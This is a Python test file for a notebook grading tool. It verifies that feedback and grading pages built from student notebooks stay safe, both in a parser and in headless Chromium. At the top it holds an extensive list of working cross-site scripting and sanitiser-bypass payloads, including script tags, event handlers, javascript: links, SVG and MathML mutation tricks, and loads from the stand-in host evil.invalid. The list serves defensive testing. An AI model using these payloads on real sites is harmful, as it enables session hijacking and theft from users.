"""The pages that show a graded notebook are safe to open, whatever a student wrote, and can be read and worked with."""

import contextlib
import re
import shutil
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from functools import partial
from html.parser import HTMLParser

import pytest
from nbformat import v4

from grading import markup, pages
from grading.markup import Markdown, mathml
from grading.pages import CODE_LIMIT, Code, FeedbackPage, FormgradePage, number, shown
from tests import needs
from tests.grading import tiny
from tests.grading.classes import Class
from tests.grading.formgrader import formgrader, press

CHROMIUM = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
RUN = "alert(document.domain)"
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")

# What a student might write into a Markdown cell. `evil.invalid` is a host that nothing may ever ask for.
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<ScRiPt src=//evil.invalid/x.js></sCrIpT><script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src="http://evil.invalid/a.png" srcset="http://evil.invalid/b.png 2x" onload={RUN}>',
    "![a picture](http://evil.invalid/c.png)",
    f'![" onerror="{RUN}](x) ![x](x" onerror="{RUN})',
    "![x](//evil.invalid/d.png) ![x](file:///etc/hostname) ![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[![x](http://evil.invalid/e.png)](http://evil.invalid)\n\n[ref]: http://evil.invalid 'title'\n\n![ref]",
    f"[click](javascript:{RUN}) [click](JaVaScRiPt:{RUN}) [click]( javascript:{RUN} )",
    f"[click](java&#115;cript:{RUN}) [click](javascript&colon;{RUN}) [click](&#1;javascript:{RUN})",
    f"<a href='jav&#x09;ascript:{RUN}'>x</a> <a href='&#14; javascript:{RUN}'>x</a> <a href='java\nscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a> <a href='vbscript:x'>x</a> <a href='//evil.invalid'>x</a>",
    f"<javascript:{RUN}> <https://evil.invalid/\"onclick={RUN}>",
    "<a href=https://evil.invalid target=_top ping=http://evil.invalid/ping download onclick=alert(1)>x</a>",
    f"<svg onload={RUN}><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={RUN}></style></svg><svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<object data='http://evil.invalid/x.swf'></object><embed src='http://evil.invalid/x'><applet code=x>",
    "<style>@import 'http://evil.invalid/x.css'; body { background: url(http://evil.invalid/x.png) }</style>",
    "<p style='background: url(http://evil.invalid/y.png); position: fixed; inset: 0'>over all</p>",
    "<link rel=stylesheet href=http://evil.invalid/z.css><link rel=prefetch href=http://evil.invalid/p>",
    "<meta http-equiv=refresh content='0; url=http://evil.invalid'><base href='http://evil.invalid/'>",
    "<form action=http://evil.invalid><input name=_xsrf autofocus onfocus=alert(1)><button>Full credit</button></form>",
    "<video src=http://evil.invalid/v poster=http://evil.invalid/w autoplay><source src=x onerror=alert(1)></video>",
    "<audio src=http://evil.invalid/a autoplay></audio><input type=image src=http://evil.invalid/i>",
    "<table background=http://evil.invalid/t><td background=http://evil.invalid/u>x</table><body onload=alert(1)>",
    f"<details open ontoggle={RUN}><summary onclick={RUN}>x</summary></details><marquee onstart={RUN}>x</marquee>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><mi><table><mglyph><style><math><table id='</table>'><img src onerror={RUN}>'>",
    f"<math href='javascript:{RUN}'><mi xlink:href='javascript:{RUN}'>x</mi><maction actiontype=statusline>y</maction>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
    f"<title><a title='</title><img src=x onerror={RUN}>'></title><xmp><p id='</xmp><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template><select><template><script>{RUN}</script></select>",
    f"<!--><img src=x onerror={RUN}>--> <!-- > --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<img src=x onerror={RUN}>]]> <?php <img src=x onerror={RUN}> ?> <!DOCTYPE x [<!ENTITY e 'x'>]>",
    f"# <b onmouseover={RUN}>heading</b> <script>{RUN}</script>\n\n## [x](javascript:{RUN})",
    f"```\"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```",
    f"`</code><script>{RUN}</script>` ~~<script>{RUN}</script>~~\n\n    </pre><script>{RUN}</script>",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |",
    rf"$\href{{javascript:{RUN}}}{{x}}$ $\text{{<img src=x onerror={RUN}>}}$ $\html{{<script>{RUN}</script>}}$",
    rf"$</math><script>{RUN}</script>$ $\class{{score}}{{x}}$ $\style{{background: url(http://evil.invalid)}}{{x}}$",
    rf'$$\color{{red" onclick="{RUN}}}{{x}}$$ $$\text{{&lt;script&gt;{RUN}&lt;/script&gt;}}$$ $\require{{x}}$',
    rf"\begin{{align}}<script>{RUN}</script>\end{{align}} \begin{{x}}</math><img src=x onerror={RUN}>\end{{x}}",
    rf"$\left( <script>{RUN}</script>$ $\includegraphics{{http://evil.invalid/x.png}}$ $\unicode{{x3c}}$",
    "<div class='verdicts score full-credit' id=why-comment name=base_url><p id=why>x</p></div>",
    "<img name=submission_id id=base_url><a id=formgrader name=formgrader>x</a>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62; \x00<\x00script>{RUN}</script>",
    "![odd](attachment:a%22%20onerror=alert(1).png) ![missing](attachment:none.png) ![x](attachment:../../x)",
    "</div></section></main></body></html><!-- what follows is not seen -->",
    "<table><tr><td><ul><li><b><i><a href=https://evil.invalid>",
    "<plaintext>", "<!--", "<script>", "<style>", "<textarea>", "<title>", "<xmp>", "<svg>", "<math>", "<a href='", '"',
]
ATTACHMENTS = {'a" onerror=alert(1).png': {"image/png": PNG}, "x": {"image/png": f'"><script>{RUN}</script>'}}
NASTY = f"</pre></title></style><script>{RUN}</script><img src=http://evil.invalid/n onerror={RUN}><!--'\"-->"
LEFT_OUT = {"text/html": NASTY, "image/svg+xml": NASTY, "text/markdown": NASTY, "application/javascript": RUN,
            "text/latex": NASTY, "application/vnd.jupyter.widget-view+json": {}, "text/vnd.mermaid": NASTY}
OUTPUTS = [
    v4.new_output("stream", name="stdout", text=f"\x1b[31m{NASTY}\x1b[0m"),
    v4.new_output("stream", name=NASTY, text=NASTY),
    v4.new_output("error", ename=NASTY, evalue=NASTY, traceback=[f"\x1b[31m{NASTY}", NASTY]),
    v4.new_output("error", ename=NASTY, evalue=NASTY, traceback=[]),
    v4.new_output("display_data", {"text/plain": NASTY, **LEFT_OUT}),
    v4.new_output("display_data", {"image/png": f'x"><script>{RUN}</script>', **LEFT_OUT}, metadata={"width": NASTY}),
    v4.new_output("display_data", {"image/png": PNG, "text/plain": "<Figure>"}),
    v4.new_output("execute_result", LEFT_OUT, execution_count=1),
    v4.new_output("display_data", {"text/plain": ""}, metadata={"verdicts": {"head": NASTY, "mistake": NASTY, "lines": [
        {"passed": passed, "law": NASTY, "hint": NASTY} for passed in (True, False)]}}),
]
RESOURCES = {
    "nbgrader": {"student": NASTY, "notebook": NASTY, "assignment": NASTY, "score": 1.0, "max_score": 2.0,
                 "late_penalty": 0.5},
    "assignment_id": NASTY, "notebook_id": NASTY, "submission_id": NASTY, "index": 0, "total": 1, "base_url": "",
    "student": NASTY, "last_name": NASTY, "first_name": NASTY, "notebook_path": NASTY,
}
PLAIN = {"nbgrader": {**RESOURCES["nbgrader"], "student": "ada", "notebook": "lab"}}
# Every element that came from Markdown, with what it should not be or have.
STRANGE = """([tags, attributes]) => [...document.querySelectorAll(".markdown *")].flatMap(element => [
  ...(tags.includes(element.localName) ? [] : [element.localName]),
  ...element.getAttributeNames().filter(name => !attributes.includes(name)).map(name => "@" + name)])
"""
ATTRIBUTES = {"href", "rel", "src", "alt", "start", "open"} | markup.MATHML_ATTRIBUTES


def hostile_notebook():
    """Every payload in a cell of its own, then a last cell that must still be there."""
    cells = [v4.new_markdown_cell(text, attachments=ATTACHMENTS) for text in HOSTILE]
    cells += [v4.new_code_cell(NASTY, outputs=OUTPUTS), v4.new_raw_cell(NASTY)]
    about = {"grade_id": NASTY, "grade": True, "solution": True, "points": 2, "score": 1, "comment": NASTY + HOSTILE[3]}
    cells.append(v4.new_markdown_cell(NASTY, metadata={"nbgrader": about}))
    cells.append(v4.new_markdown_cell("THE-END"))
    return v4.new_notebook(cells=cells, metadata={"title": NASTY, "kernelspec": {"name": NASTY, "display_name": NASTY}})


def feedback(notebook):
    """The feedback page of a notebook whose names are harmless."""
    return FeedbackPage().from_notebook_node(notebook, PLAIN)[0]


PAGES = {"feedback": FeedbackPage, "formgrade": FormgradePage}


@pytest.fixture(scope="module")
def hostile_pages():
    return {name: page().from_notebook_node(hostile_notebook(), RESOURCES)[0] for name, page in PAGES.items()}


class Elements(HTMLParser):
    """[(tag, {attribute: value})] of a page, as a parser sees them that has nothing to do with bleach."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(str(page))

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("links", [True, False])
@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_yields_listed_tags_with_listed_attributes_only(text, links):
    for tag, attributes in Elements(Markdown(links)(text, ATTACHMENTS)).found:
        assert tag in markup.HTML | markup.MATHML and set(attributes) <= ATTRIBUTES
        assert markup.LINK.fullmatch(attributes.get("href", "https://x"))
        assert markup.PICTURE.fullmatch(attributes.get("src", "data:image/png;base64,x"))


@pytest.mark.parametrize("text", ["[x](https://a.b/c)", "<https://a.b/c>", "<a href='https://a.b/c'>x</a>"])
def test_a_link_stays_and_tells_its_target_nothing(text):
    (link,) = (attributes for tag, attributes in Elements(Markdown()(text)).found if tag == "a")
    assert link == {"href": "https://a.b/c", "rel": "noopener noreferrer"}


def test_where_links_cannot_be_clicked_their_address_is_shown():
    assert Markdown(links=False)("[my bank](https://evil.invalid)") == "<p>my bank &lt;https://evil.invalid&gt;</p>\n"


def test_an_attached_picture_is_shown_from_the_page_itself():
    pasted = Markdown()("![my plot](attachment:a%20b.png)", {"a b.png": {"image/png": PNG}})
    assert pasted == f'<p><img src="data:image/png;base64,{PNG}" alt="my plot"></p>\n'


@pytest.mark.parametrize("text", ["![](a/b.webp)", "<img src='a/b.webp' width=300>", "*a* <img src=a/b.webp>"])
@pytest.mark.parametrize("kind", ["image/webp", "image/gif", "image/jpeg"])
def test_a_picture_is_shown_of_every_kind_that_browsers_show_and_in_html(text, kind):
    assert f'src="data:{kind};base64,{PNG}"' in Markdown()(text, {"a/b.webp": {kind: PNG}})


@pytest.mark.parametrize("text, what", [("![my plot](http://evil.invalid/x.png)", "my plot"), ("![](a.tif)", "a.tif")])
def test_a_picture_that_is_not_shown_says_so(text, what):
    assert f"[a picture that is not shown: {what}]" in Markdown()(text)


def test_markdown_means_what_it_meant():
    text = "# T\n\n*a* **b** `c<d` ~~e~~\n\n1. x\n\n| h |\n|---|\n| 5 < 6 & 7 |\n\n"
    page = Markdown()(f"{text}<details><summary>s</summary>u</details>")
    for part in ("<h1>T</h1>", "<em>a</em>", "<strong>b</strong>", "<code>c&lt;d</code>", "<del>e</del>", "<li>x</li>",
                 "<td>5 &lt; 6 &amp; 7</td>", "<summary>s</summary>"):
        assert part in page


def test_mathematics_becomes_mathml():
    page = Markdown()("$x_i < 3$ and $$\\frac{a}{b}$$")
    assert "<msub><mi>x</mi><mi>i</mi></msub><mo>&lt;</mo>" in page and '<math display="block"><mrow><mfrac>' in page


@pytest.mark.parametrize("tex", ["{", "", "\\left( a<b", "x" * (markup.TEX_LIMIT + 1), "{" * 1000 + "}" * 1000])
def test_mathematics_that_cannot_be_parsed_is_shown_as_written(tex):
    assert mathml(tex) == f"<code>{tex.replace('<', '&lt;')}</code>"


@pytest.mark.parametrize("text", ["> " * 9000, "x" * (markup.LIMIT + 1), "<b>" * 6000], ids=["deep", "long", "open"])
def test_no_text_breaks_a_page(text):
    assert str(Markdown()(text)).startswith(("<pre>", "<blockquote>", "<p>"))


def test_markdown_that_takes_long_is_shown_as_written_from_then_on():
    markdown = Markdown()
    markdown.spent = markup.SECONDS + 1
    assert markdown("*a* <b>") == "<pre>*a* &lt;b&gt;</pre>"


def test_a_hundred_slow_cells_take_little_longer_than_the_time_for_a_page(monkeypatch):
    monkeypatch.setattr(markup, "SECONDS", 1.0)
    markdown, start = Markdown(), time.process_time()
    for _ in range(100):
        markdown("$a$" * (markup.LIMIT // 3))
    assert time.process_time() - start < markup.SECONDS + 10


def test_code_is_coloured_escaped_and_whole():
    code = Code()
    assert Elements(code("def f(x):\n    return '<script>'")).found and "<script" not in code("'<script>'")
    assert code("<" * (CODE_LIMIT + 1)) == "&lt;" * (CODE_LIMIT + 1)


@pytest.mark.parametrize("source", [" \n" * 25_000, "match" + " " * 49_000], ids=["lines of a blank", "match"])
def test_code_with_long_runs_of_blanks_is_shown_plain_at_once(source):
    start = time.process_time()
    assert Code()(source) == source and time.process_time() - start < 1


def test_code_that_takes_long_is_shown_plain_from_then_on(monkeypatch):
    monkeypatch.setattr(pages, "CODE_SECONDS", 0.1)
    code, start = Code(), time.process_time()
    assert [code("x = 1\n" * 8000) for _ in range(50)][-1] == "x = 1\n" * 8000
    assert time.process_time() - start < 5 and code("x") == "x"


@pytest.mark.parametrize("points, text", [(2.0, "2"), (2.5, "2.5"), (1 / 3, "0.33"), (10.0, "10"), (None, "0")])
def test_points_are_written_short(points, text):
    assert number(points) == text


@pytest.mark.parametrize("kind", LEFT_OUT)
def test_an_output_of_another_kind_is_left_out(kind):
    assert shown(v4.new_output("display_data", {kind: NASTY, "text/plain": "plain"})) == ("text", "plain")


@pytest.mark.parametrize("name", PAGES)
def test_a_page_with_hostile_parts_has_its_own_scripts_alone(hostile_pages, name):
    found = Elements(hostile_pages[name]).found
    scripts = [attributes for tag, attributes in found if tag == "script"]
    assert all(attributes["nonce"] in hostile_pages[name] for attributes in scripts)
    assert (len(scripts) == 0) == (name == "feedback")
    assert not [value for _, attributes in found for key, value in attributes.items() if key.startswith("on")]
    assert "THE-END" in hostile_pages[name]


def test_a_nonce_is_never_used_twice():
    pages = [FormgradePage().from_notebook_node(v4.new_notebook(), RESOURCES)[0] for _ in range(2)]
    assert len({re.search("nonce-([^']+)'", page)[1] for page in pages}) == 2


def test_feedback_shows_points_the_penalty_comments_and_what_is_not_marked_yet(lab, regraded):
    notebook = regraded(tiny.filled(lab)).notebook
    for grade_id, more in {"center-checks": {"score": 1.5}, "why": {"waiting": True, "comment": "well *seen*"}}.items():
        tiny.cell(notebook, grade_id).metadata.nbgrader.update(more)
    text = re.sub(r"\s+", " ", re.sub("<[^>]+>", " ", feedback(notebook)))
    for part in ("1 of 2 points", "center 1.5 of 2", "why of 2, not marked yet", "late minus 0.5", "well seen"):
        assert part in text


def test_an_exercise_with_a_comment_has_one_row_that_leads_to_both(lab, regraded):
    notebook = regraded(tiny.filled(lab)).notebook
    for grade_id in ("center", "why"):
        tiny.cell(notebook, grade_id).metadata.nbgrader.comment = "No response."
    rows = re.findall("<tr>.*?</tr>", feedback(notebook).replace("\n", ""))
    assert ["#comment-" in row for row in rows[:3]] == [True, False, True] and len(rows) == 5  # lateness, the total


def test_verdicts_stand_above_the_traceback_and_tell_passed_from_failed_in_words(graded):
    page = feedback(graded(center="def center(x, axis=0): return 1").notebook)
    assert page.index("<b>FAILED</b> what is left over") < page.index("AttributeError") < page.index("<b>passed</b>")


# What follows is seen by a browser.

@pytest.fixture(scope="module")
def chromium():
    """Runs a function with headless Chromium as its first argument.

    In a thread of its own: Playwright can be started once per thread, and other tests may have done so.
    """
    from playwright.sync_api import sync_playwright

    with ThreadPoolExecutor(1) as thread:
        playwright = thread.submit(sync_playwright().start).result()
        launch = partial(playwright.chromium.launch, executable_path=needs.chromium_path(), args=CHROMIUM)
        browser = thread.submit(launch).result()
        yield lambda function, *args: thread.submit(function, browser, *args).result()
        thread.submit(browser.close).result()
        thread.submit(playwright.stop).result()


@dataclass
class Visit:
    """What happened while a page was open."""

    requests: list = field(default_factory=list)
    stopped: list = field(default_factory=list)  # those of the requests that the page's policy stopped
    dialogs: list = field(default_factory=list)
    trouble: list = field(default_factory=list)  # errors, messages of the console, windows that opened
    found: object = None


@contextlib.contextmanager
def watched(browser, **context):
    """An empty tab, and the Visit that it fills."""
    visit, context = Visit(), browser.new_context(**context)
    tab = context.new_page()
    tab.on("request", lambda request: visit.requests.append(request.url))
    tab.on("requestfailed", lambda request: request.failure == "csp" and visit.stopped.append(request.url))
    tab.on("console", lambda message: visit.trouble.append(message.text))
    tab.on("pageerror", lambda error: visit.trouble.append(str(error)))
    tab.on("dialog", lambda dialog: (visit.dialogs.append(dialog.message), dialog.dismiss()))
    tab.on("popup", lambda popup: visit.trouble.append(popup.url))
    yield tab, visit
    context.close()


def opened(browser, path, look="null", argument=None, **context):
    """Open a file, wait, and look. The request for the page itself is not listed."""
    with watched(browser, **context) as (tab, visit):
        tab.goto(path.as_uri(), wait_until="networkidle")
        tab.wait_for_timeout(200)
        visit.found = tab.evaluate(look, argument)
    visit.requests.remove(path.as_uri())
    return visit


@needs.chromium
@pytest.mark.parametrize("policy", [True, False], ids=["policy", "no policy"])
def test_hostile_feedback_runs_and_asks_for_nothing(chromium, hostile_pages, tmp_path, policy):
    (tmp_path / "page.html").write_text(hostile_pages["feedback"], encoding="utf-8")
    visit = chromium(lambda browser: opened(browser, tmp_path / "page.html", bypass_csp=not policy))
    assert (visit.requests, visit.dialogs, visit.trouble) == ([], [], [])


@needs.chromium
@pytest.mark.parametrize("name", PAGES)
def test_a_browser_finds_nothing_in_hostile_markdown_that_is_not_listed(chromium, hostile_pages, tmp_path, name):
    (tmp_path / "page.html").write_text(hostile_pages[name], encoding="utf-8")
    listed = [sorted(markup.HTML | markup.MATHML), sorted(ATTRIBUTES)]
    assert chromium(opened, tmp_path / "page.html", STRANGE, listed).found == []


def unclean(browser, path):
    """Open a page with each payload put in as it is, one after the other. No policy stops a page that reloads."""
    page = feedback(v4.new_notebook())
    with watched(browser) as (tab, visit):
        for text in HOSTILE:
            if "http-equiv=refresh" not in text:
                path.write_text(page.replace("<main>", f"<main>{text}"), encoding="utf-8")
                tab.goto(path.as_uri())
    return visit


@needs.chromium
def test_the_policy_alone_stops_scripts_and_requests(chromium, tmp_path):
    page = tmp_path / "page.html"
    visit = chromium(unclean, page)
    asked = {url for url in visit.requests if not url.startswith(("data:", "about:"))}
    assert visit.dialogs == [] and asked - {page.as_uri()} == set(visit.stopped) != set()


@needs.chromium
@pytest.mark.parametrize("width", [360, 1280])
def test_feedback_fits_a_phone_and_a_desk(chromium, graded, tmp_path, width):
    long = graded(first=f"print('x' * 500)\n{'y' * 300} = 1", why=f"$${'a+' * 200}a$$ {'z' * 300}").notebook
    (tmp_path / "page.html").write_text(feedback(long), encoding="utf-8")
    wide = "document.documentElement.scrollWidth"
    screen = {"viewport": {"width": width, "height": 800}}
    assert chromium(lambda browser: opened(browser, tmp_path / "page.html", wide, **screen)).found <= width


# Formgrader itself.

@pytest.fixture(scope="module")
def course(given_out, tmp_path_factory, lab):
    """A class of one, graded, whose answer and helper files are hostile."""
    course = Class.new(given_out, tmp_path_factory.mktemp("formgrader") / "course", lab)
    notebook = tiny.filled(lab, why="\n\n".join(HOSTILE))
    notebook.cells += [v4.new_markdown_cell(text) for text in HOSTILE]
    folder = course.hand_in("mallory", tiny.to_bytes(notebook))
    (folder / "page.html").write_text(f"<p>a page</p><script>{RUN}</script>")
    (folder / "nbgrader_config.py").write_text("open('executed', 'w')")
    assert course.nbgrader("autograde", tiny.NAME).status == 0
    return course


@pytest.fixture(scope="module")
def submission(course):
    """The id that formgrader knows the submission by."""
    with course.gradebook() as book:
        return book.find_submission_notebook(tiny.NAME, tiny.NAME, "mallory").id


@pytest.fixture(scope="module")
def server(course):
    """The address of a Jupyter server with formgrader, in the course's folder."""
    with formgrader(course.folder) as address:
        yield address


def marked_by_hand(browser, server, submission):
    """Log in, open the submission, give a mark and a comment, flag it, and look at the shortcuts."""
    with watched(browser, base_url=server) as (tab, visit):
        tab.goto("?token=token", wait_until="networkidle")
        tab.goto(f"formgrader/submissions/{submission}/", wait_until="networkidle")
        tab.fill("#why", "1.5")
        tab.press("#why", "Tab")
        tab.fill("#why-comment", "well seen: $x$")
        tab.press("#why-comment", "Escape")
        tab.keyboard.press("Control+Shift+F")
        tab.wait_for_selector("#statusmessage:has-text('Submission flagged')")
        tab.click(".help")
        shortcuts = tab.inner_text("#help-dialog .modal-body")
        tab.wait_for_load_state("networkidle")
        visit.found = {"shortcuts": shortcuts, "text": tab.inner_text("body"),
                       "strange": tab.evaluate(STRANGE, [sorted(markup.HTML | markup.MATHML), sorted(ATTRIBUTES)])}
    return visit


@pytest.fixture(scope="module")
def hand_marking(chromium, server, submission):
    return chromium(marked_by_hand, server, submission)


@needs.chromium
def test_formgrader_runs_nothing_of_a_students_and_asks_no_other_host(hand_marking, server):
    assert hand_marking.dialogs == hand_marking.trouble == hand_marking.found["strange"] == []
    assert [url for url in hand_marking.requests if not url.startswith((server, "data:"))] == []


@needs.chromium
def test_formgrader_takes_a_mark_a_comment_and_a_flag(hand_marking, course):
    names = tiny.NAME, tiny.NAME, "mallory"
    with course.gradebook() as book:
        assert book.find_grade("why", *names).manual_score == 1.5
        assert book.find_comment("why", *names).comment == "well seen: $x$"
        assert book.find_submission_notebook(*names).to_dict()["flagged"]


@needs.chromium
def test_formgrader_shows_the_marking_scheme_and_its_shortcuts(hand_marking):
    assert "SECRET-SCHEME" in hand_marking.found["text"] and "control-shift-f" in hand_marking.found["shortcuts"]


@needs.chromium
def test_a_page_that_was_handed_in_is_shown_without_its_script(chromium, server, submission):
    def visit(browser):
        with watched(browser, base_url=server) as (tab, seen):
            tab.goto("?token=token")
            tab.goto(f"formgrader/submissions/{submission}/handed-in-files/page.html")
            return tab.inner_text("body"), seen.dialogs
    assert chromium(visit) == ("a page", [])


@needs.chromium
def test_no_address_of_formgrader_executes_settings_that_were_handed_in(chromium, server, course):
    def visit(browser):
        with watched(browser, base_url=server) as (tab, _):
            tab.goto("?token=token")
            return tab.goto(f"formgrader?path=submitted/mallory/{tiny.NAME}").status, tab.goto("formgrader").status
    assert chromium(visit) == (403, 200)
    assert not list(course.folder.rglob("executed"))


def test_formgraders_button_grades_in_two_rooms(server, course):
    shutil.rmtree(course.folder / "autograded" / "mallory")
    assert press(server, f"submission/{tiny.NAME}/mallory/autograde")["success"]
    assert "2 of 2 points" in course.graded("mallory")


def test_feedback_on_a_hostile_submission_is_one_page_without_schemes_or_hidden_checks(course):
    assert course.nbgrader("generate_feedback", tiny.NAME).status == 0
    page = (course.folder / "feedback" / "mallory" / tiny.NAME / f"{tiny.NAME}.html").read_text(encoding="utf-8")
    assert not re.search("SECRET|hidden_checks|<script|://cdn", page) and "<b>passed</b>" in page
